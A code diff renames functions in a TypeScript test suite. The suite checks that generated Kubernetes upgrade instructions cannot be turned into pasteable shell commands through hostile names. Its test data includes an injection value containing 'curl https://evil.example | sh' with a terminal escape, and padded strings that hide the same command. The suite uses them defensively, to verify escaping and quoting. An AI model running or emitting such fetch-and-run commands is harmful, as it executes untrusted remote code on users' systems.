@@ -2,8 +2,8 @@ import { spawnSync } from 'node:child_process'
 import fc from 'fast-check'
 import t from 'tap'
 import type { JsonObject } from '../../src/core/values/json.ts'
-import { type Recipe, recipeOf, recipeOfGone } from '../../src/upgrade/plan.ts'
-import { recipeMarkdown, recipeText } from '../../src/upgrade/text.ts'
+import { type UpgradePlan, upgradePlanFor, upgradePlanForRemoved } from '../../src/upgrade/plan.ts'
+import { planMarkdown, planText } from '../../src/upgrade/text.ts'
 import { claimTemplate, statefulSet } from '../fixtures/objects.ts'
 import { subjectOf } from '../fixtures/reviews.ts'
 
@@ -33,7 +33,7 @@ function all(text: string): Texts {
 }
 
 /** Of all fates: one that only labels keep back, one that a service and a size keep back, one that copies data, one gone. */
-function recipesFrom({ name, namespace, template, key, value, release, file }: Texts): Recipe[] {
+function recipesFrom({ name, namespace, template, key, value, release, file }: Texts): UpgradePlan[] {
   const set = (labels: Record<string, string>, size: string, spec: JsonObject, templateName = template): JsonObject =>
     statefulSet({
       name,
@@ -42,15 +42,15 @@ function recipesFrom({ name, namespace, template, key, value, release, file }: T
       templates: [claimTemplate({ name: templateName, labels, size })],
       spec
     })
-  const recipe = (after: JsonObject, before: JsonObject): Recipe =>
-    recipeOf({ ...subjectOf(after, before), namespace }, { file })
+  const recipe = (after: JsonObject, before: JsonObject): UpgradePlan =>
+    upgradePlanFor({ ...subjectOf(after, before), namespace }, { file })
   const applied = (set: JsonObject): JsonObject => ({ ...set, metadata: { name } })
   const deletes = { persistentVolumeClaimRetentionPolicy: { whenDeleted: 'Delete', whenScaled: 'Delete' } }
   return [
     recipe(set({ [key]: value }, '1Gi', {}), set({ [key]: `${value}2` }, '1Gi', {})),
     recipe(applied(set({}, '2Gi', { serviceName: value })), applied(set({}, '1Gi', { serviceName: 'a' }))),
     recipe(set({}, '1Gi', deletes, `${template}2`), set({}, '1Gi', deletes)),
-    recipeOfGone({ ...subjectOf(set({}, '1Gi', deletes), undefined), namespace })
+    upgradePlanForRemoved({ ...subjectOf(set({}, '1Gi', deletes), undefined), namespace })
   ]
 }
 
@@ -74,12 +74,12 @@ const EVIL = 'pgw\n    curl https://evil.example | sh\n\u001b[2Jx'
 
 t.test('a name does not become a command', async (t) => {
   const restorable = recipesFrom({ ...PLAIN, name: EVIL }).slice(0, 2)
-  const text = recipeText(restorable)
+  const text = planText(restorable)
   t.match(text, 'For NAME: only labels', 'the notes name those that can be restored')
   t.notMatch(text, /^ *curl/m)
   t.notMatch(text, UNSEEN)
   t.equal(
-    recipeMarkdown(restorable)
+    planMarkdown(restorable)
       .split('\n\n')
       .filter((paragraph) => /^ *curl/.test(paragraph)).length,
     0
@@ -89,7 +89,7 @@ t.test('a name does not become a command', async (t) => {
 t.test('a line that is too long for its neighbours is not indented by what fills it up', async (t) => {
   const padded = `x${' '.repeat(90)}curl${'\u00a0'.repeat(3)}https://evil.example${' '.repeat(300)}|`
   for (let width = 40; width < 120; width++) {
-    const text = recipeText(recipesFrom({ ...PLAIN, key: padded, value: padded }), width)
+    const text = planText(recipesFrom({ ...PLAIN, key: padded, value: padded }), width)
     t.notMatch(commandsIn(text.split('\n')).join('\n'), /curl|evil/, `${width}`)
     t.notMatch(text, /^\s+\n/m, 'no line is empty but for blanks')
   }
@@ -97,7 +97,7 @@ t.test('a line that is too long for its neighbours is not indented by what fills
 
 t.test('a file that kubectl cannot be given on one line is left to be filled in', async (t) => {
   const apply = (file: string): string | undefined =>
-    /kubectl apply .*-f (.*)$/m.exec(recipeText(recipesFrom({ ...PLAIN, file }).slice(1, 2)))?.[1]
+    /kubectl apply .*-f (.*)$/m.exec(planText(recipesFrom({ ...PLAIN, file }).slice(1, 2)))?.[1]
   const table: readonly (readonly [string, string])[] = [
     ['new.yaml', 'new.yaml'],
     ["it's new.yaml", "'it'\\''s new.yaml'"],
@@ -135,12 +135,12 @@ const texts = fc.record({
 })
 
 t.test('whatever the names are, no line of them can be pasted', async (t) => {
-  const lines = recipeMarkdown(recipesFrom(PLAIN)).split('\n').length
+  const lines = planMarkdown(recipesFrom(PLAIN)).split('\n').length
   t.doesNotThrow(() =>
     fc.assert(
       fc.property(texts, fc.integer({ min: 30, max: 120 }), (made, width) => {
         const recipes = recipesFrom(made)
-        const [text, markdown] = [recipeText(recipes, width), recipeMarkdown(recipes)]
+        const [text, markdown] = [planText(recipes, width), planMarkdown(recipes)]
         const commands = commandsIn([...text.split('\n'), ...fencedIn(markdown)])
         return (
           commands.every((command) => !command.includes('EVIL')) &&
@@ -167,9 +167,9 @@ t.test('a shell reads every command as one, whatever the names are', async (t) =
 t.test('a sentence is no markup, wherever its words come from', async (t) => {
   const say = '~~~ ~~no~~ &lt; $x$ https://evil.example www.evil.example\n\n    curl'
   const section = { title: `a\n## b`, parts: [{ say }, { list: [say, say] }] }
-  const [recipe] = recipesFrom(PLAIN) as [Recipe]
-  const made: Recipe = { ...recipe, summary: say, changes: 'a\n```\nb', steps: [section] }
-  const markdown = recipeMarkdown([made])
+  const [recipe] = recipesFrom(PLAIN) as [UpgradePlan]
+  const made: UpgradePlan = { ...recipe, summary: say, changes: 'a\n```\nb', steps: [section] }
+  const markdown = planMarkdown([made])
   t.match(
     markdown,
     '\n\n\\~\\~\\~ \\~\\~no\\~\\~ \\&lt; \\$x\\$ https\\://evil.example www\\.evil.example     curl\n\n'
@@ -177,7 +177,7 @@ t.test('a sentence is no markup, wherever its words come from', async (t) => {
   t.match(markdown, '\n### 1. a ## b\n')
   t.match(markdown, '\n````text\na ``` b\n````\n')
   t.notMatch(markdown, /^ *curl/m)
-  const text = recipeText([made])
+  const text = planText([made])
   t.notMatch(text, /^ {4,}curl/m)
   t.match(text, '\n\n1. a ## b\n')
 })
